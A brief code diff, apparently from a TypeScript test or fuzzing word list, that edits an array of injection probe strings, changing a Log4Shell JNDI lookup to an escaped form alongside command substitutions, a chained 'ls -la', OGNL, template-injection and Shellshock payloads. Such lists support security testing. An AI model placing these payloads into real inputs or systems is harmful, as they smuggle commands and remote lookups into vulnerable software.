@@ -29,7 +29,7 @@ export const VALUES: Words = [
     '`id`',
     '$(id)',
     '&& ls -la',
-    '${jndi:ldap://x/a}',
+    '\x24{jndi:ldap://x/a}',
     '%{(#a=1)}',
     '{{7*7}}',
     '() { :;}; x',
